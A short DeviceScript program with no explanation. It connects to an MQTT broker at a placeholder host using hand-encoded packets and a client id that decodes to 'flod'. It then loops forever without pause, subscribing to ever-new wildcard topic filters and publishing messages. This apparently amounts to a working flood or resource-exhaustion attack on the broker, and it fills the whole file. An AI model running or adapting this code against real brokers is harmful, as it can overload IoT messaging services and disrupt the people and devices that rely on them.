import { connect } from "@devicescript/net";

const socket = await connect({ host: "broker.example", port: 1883, proto: "tcp" });
await socket.send(Buffer.from("101000044d5154540402003c0004666c6f64", "hex"));
for (let n = 0; ; n++) {
  const filter = Buffer.from(`+/+/+/+/${n}`);
  await socket.send(
    Buffer.from([0x82, filter.length + 5, 0, 1, 0, filter.length])
      .concat(filter)
      .concat(Buffer.from([0])),
  );
  await socket.send(Buffer.from("30070003612f622f", "hex"));
}
